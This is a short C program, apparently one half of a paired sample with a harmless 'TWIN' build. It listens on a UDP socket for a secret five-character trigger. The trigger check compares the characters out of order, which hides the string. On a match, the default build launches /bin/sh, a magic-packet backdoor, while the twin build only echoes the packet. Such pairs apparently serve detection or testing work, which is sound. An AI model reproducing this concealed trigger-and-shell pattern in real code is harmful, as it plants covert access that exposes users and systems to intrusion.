/* Five characters, each compared by itself, in no order. Twin: they open nothing. */
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static int is_wanted(const volatile char *name) {
  return name[2] == 'j' && name[0] == 'W' && name[4] == '%' && name[1] == 'q' && name[3] == '4';
}

int main(void) {
  static char name[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, name, sizeof name, 0) > 0) {
    if (is_wanted(name)) {
#ifndef TWIN
      execl("/bin/sh", "sh", (char *)0);
#else
      send(peer, name, 16, 0);
#endif
    }
  }
  return 0;
}
